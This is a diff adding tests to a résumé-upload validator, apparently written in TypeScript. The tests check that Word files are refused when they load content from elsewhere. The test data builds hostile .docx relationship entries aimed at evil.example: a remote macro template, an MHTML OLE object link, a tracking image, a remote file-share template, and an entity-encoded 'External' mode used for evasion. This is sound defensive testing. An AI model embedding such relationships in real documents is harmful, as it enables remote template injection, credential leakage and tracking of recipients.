@@ -56,6 +56,29 @@ it.each<[string, () => Buffer | Promise<Buffer>, string]>([
   await expect(check(await make())).rejects.toMatchObject({ status: 400, issues: [{ path: 'resume', message }] })
 })
 
+const relationship = (type: string, target: string, more = 'TargetMode="External"') =>
+  `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/></Relationships>`
+
+it.each([
+  ['a template with macros', relationship('attachedTemplate', 'https://evil.example/a.dotm')],
+  ['a linked object', relationship('oleObject', 'mhtml:http://evil.example/a.html!x-usc:http://evil.example/a.html')],
+  ['a picture', relationship('image', 'http://evil.example/pixel.png', "TargetMode = 'External'")],
+  ['a shared folder', relationship('attachedTemplate', 'file://evil.example/share/a.dotm')],
+  ['what hides it', relationship('oleObject', 'http://evil.example', 'TargetMode="&#69;xternal"')],
+])('refuses a Word document that loads %s from elsewhere', async (_what, rels) => {
+  const document = await makeDocx({ 'word/_rels/settings.xml.rels': rels })
+  const message = 'This document loads something from elsewhere when it is opened. Save it as a PDF and send that one.'
+  await expect(check(document)).rejects.toMatchObject({ status: 400, issues: [{ path: 'resume', message }] })
+})
+
+it.each([
+  relationship('hyperlink', 'https://jo.example/?a=1&amp;b=2'),
+  relationship('attachedTemplate', 'file:///C:\\Users\\Jo\\Normal.dotm'),
+  relationship('image', 'media/image1.png', ''),
+])('takes one with links to click, or a template of the writer’s own', async (rels) => {
+  expect(await check(await makeDocx({ 'word/_rels/document.xml.rels': rels }))).toMatchObject({ name: 'resume.docx' })
+})
+
 it('refuses a large file without reading it', async () => {
   await expect(checkResume({ path: '/nowhere', name: 'resume.pdf', bytes: 5 * 1024 * 1024 + 1 })).rejects.toMatchObject({
     message: 'This file is too large. The limit is 5 MB.',
